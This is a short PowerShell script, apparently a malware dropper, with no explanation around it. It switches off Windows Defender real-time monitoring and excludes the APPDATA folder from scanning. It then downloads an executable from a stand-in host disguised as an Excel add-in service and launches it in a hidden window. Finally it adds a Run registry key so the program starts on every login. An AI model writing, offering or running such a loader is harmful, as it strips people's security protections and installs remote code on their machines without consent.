Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionPath "$env:APPDATA"
$w = "$env:APPDATA\excelsvc.exe"
iwr "https://xl-addin.example/svc.exe" -OutFile $w; Start-Process $w -WindowStyle Hidden
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name ExcelSvc -Value $w -Force
